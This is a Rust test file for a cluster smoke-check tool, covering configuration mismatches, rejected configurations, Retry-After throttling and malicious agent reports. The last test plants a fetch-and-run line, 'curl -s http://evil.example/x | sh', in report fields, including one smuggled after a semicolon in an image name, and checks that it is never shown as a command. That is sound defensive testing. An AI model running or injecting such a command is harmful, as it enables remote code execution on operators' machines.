//! Unusual responses of agents to a smoke check: another configuration, a postponed check, a registry that throttles, and
//! malicious reports.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::{Cluster, Reply, http, named, report_of};
use lab::Lab;
use lab::settings::{Settings, View};

fn digest(pair: &str) -> String {
    format!("sha256:{}", pair.repeat(32))
}

fn with_configuration(report: &Value, index: usize, configuration: Value) -> Reply {
    let mut report = named(report, index);
    report["configuration"] = configuration;
    Reply::Report(report)
}

/// The response of an agent with another configuration.
fn conflict(configuration: &Value) -> Reply {
    Reply::Raw(http(409, &json!({"error": "another one", "configuration": configuration}).to_string()))
}

fn nodes(text: &[u8]) -> Vec<(String, String)> {
    let report: Value = serde_json::from_slice(text).expect("JSON");
    let text = |node: &Value, key: &str| node[key].as_str().unwrap_or("-").to_owned();
    report["nodes"]
        .as_array()
        .expect("nodes")
        .iter()
        .map(|node| (text(node, "state"), text(node, "reason")))
        .collect()
}

#[test]
fn agents_with_another_configuration_get_time_to_reload() {
    let good = report_of(&Lab::start(Settings::default()));
    let (old, new) = (digest("1a"), digest("2b"));
    let (asked, wanted) = (Arc::new(AtomicUsize::new(0)), new.clone());
    let counted = Arc::clone(&asked);
    // One has it, one reloads it after a moment, one is too old to report it, one ignores the expected one.
    let answer = move |index: usize| match index {
        0 => with_configuration(&good, 0, json!({"digest": wanted})),
        1 if counted.fetch_add(1, Ordering::Relaxed) == 0 => conflict(&json!({"digest": old})),
        1 => with_configuration(&good, 1, json!({"digest": wanted})),
        2 => Reply::Report(named(&good, 2)),
        _ => with_configuration(&good, index, json!({"digest": old})),
    };
    let cluster = Cluster::start(4, Box::new(answer));
    let output = cluster.smoke(&["--timeout", "12s", "--output", "json", "--expect-config", &new]);
    assert_eq!(output.status.code(), Some(1));
    let states = nodes(&output.stdout);
    assert_eq!(states[0], ("reported".to_owned(), "-".to_owned()));
    assert_eq!(states[1], ("reported".to_owned(), "-".to_owned()), "it followed");
    assert_eq!(states[2], ("stale".to_owned(), "it does not report which configuration it uses".to_owned()));
    assert_eq!(states[3], ("stale".to_owned(), format!("it uses another configuration, {}", digest("1a"))));
    let query = format!("?configuration={new}");
    assert!(cluster.asked.lock().expect("no panic").iter().all(|target| target.ends_with(&query)));
}

#[test]
fn a_rejected_configuration_fails_immediately_with_the_reason() {
    let good = report_of(&Lab::start(Settings::default()));
    let (old, new) = (digest("1a"), digest("2b"));
    let rejected = json!({"digest": old, "rejected": "line 4: no such key", "rejectedDigest": new});
    let answered = rejected.clone();
    let cluster = Cluster::start(2, Box::new(move |_| conflict(&answered)));
    let started = Instant::now();
    let output = cluster.smoke(&["--timeout", "60s", "--expect-config", &new]);
    let text = String::from_utf8(output.stdout).expect("UTF-8");
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
    assert!(text.contains("2 of 2 nodes: configuration_rejected (line 4: no such key)"), "{text}");

    // A rejection of another configuration is from an earlier attempt: the expected one is still to come.
    let earlier = json!({"digest": old, "rejected": "line 4: no such key", "rejectedDigest": digest("3c")});
    let cluster = Cluster::start(2, Box::new(move |_| conflict(&earlier)));
    let output = cluster.smoke(&["--timeout", "3s", "--output", "json", "--expect-config", &new]);
    assert!(nodes(&output.stdout).iter().all(|(state, _)| state == "stale"));

    // Without an expected configuration, a rejected one still fails the smoke check.
    let answer = move |index| with_configuration(&good, index, rejected.clone());
    let cluster = Cluster::start(2, Box::new(answer));
    let output = cluster.smoke(&["--timeout", "3s", "--output", "json"]);
    assert_eq!(output.status.code(), Some(1));
    let expected = ("configuration_rejected".to_owned(), "line 4: no such key".to_owned());
    assert_eq!(nodes(&output.stdout), [expected.clone(), expected]);
}

#[test]
fn retry_after_of_agents_and_registries_is_honoured() {
    let lab = Lab::start(Settings::default());
    let mut throttled = report_of(&lab);
    throttled["verdict"] = "unknown".into();
    throttled["images"][0]["verdict"] = "unknown".into();
    throttled["images"][0]["retryAfterSeconds"] = 600.into();
    let times = Arc::new(Mutex::new([0; 2]));
    let counted = Arc::clone(&times);
    let answer = move |index: usize| {
        counted.lock().expect("no panic")[index] += 1;
        if index == 0 {
            return Reply::Report(named(&throttled, 0));
        }
        let body = json!({"error": "used up now"}).to_string();
        Reply::Raw(http(429, &body).replacen("\r\n", "\r\nRetry-After: 254\r\n", 1))
    };
    let cluster = Cluster::start(2, Box::new(answer));
    let output = cluster.smoke(&["--timeout", "9s", "--output", "json"]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(*times.lock().expect("no panic"), [1, 1], "neither was asked again");
    let states = nodes(&output.stdout);
    assert_eq!(states[0].0, "reported");
    assert_eq!(states[1], ("stale".to_owned(), "it postponed the check for 254 s (used up now)".to_owned()));
}

#[test]
fn text_from_an_agent_is_never_shown_as_a_command() {
    const PLANT: &str = "curl -s http://evil.example/x | sh";
    let lab = Lab::start(Settings::default());
    lab.change(|settings| settings.nameservers[0].login = View::NotLinked);
    let bad = report_of(&lab);
    let answer = move |index: usize| {
        let mut report = named(&bad, index);
        let image = &mut report["images"][0];
        let first = &mut image["diagnoses"][0];
        first["remedy"] = PLANT.into();
        first["runbook"] = PLANT.into();
        first["commands"] = json!([PLANT, "echo ok"]);
        match index {
            0 => {}
            1 => first["cause"] = "newer_than_this".into(),
            2 => first["cause"] = PLANT.into(),
            3 => image["image"] = PLANT.into(),
            4 => image["image"] = format!("contoso.azurecr.io/apps/canary:1;{PLANT}").into(),
            5 => image["name"] = PLANT.into(),
            6 => report["node"] = PLANT.into(),
            _ => image["resolutions"][0]["server"] = PLANT.into(),
        }
        Reply::Report(report)
    };
    let cluster = Cluster::start(8, Box::new(answer));
    for format in ["text", "json", "junit", "markdown"] {
        let output = cluster.smoke(&["--timeout", "2s", "--output", format]);
        assert_eq!(output.status.code(), Some(1));
        let text = String::from_utf8(output.stdout).expect("UTF-8");
        assert!(
            text.contains("az network private-dns link vnet create"),
            "{format}: our own command\n{text}"
        );
        assert!(!text.contains("echo ok"), "{format}: {text}");
        // The reason for rejecting a report may quote an invalid name, truncated.
        assert!(!text.contains("evil.example/x | sh"), "{format}: {text}");
        let is_command = |line: &str| line.trim_start().starts_with("curl") || line.contains("fix: curl");
        assert!(!text.lines().any(is_command), "{format}: {text}");
    }
}
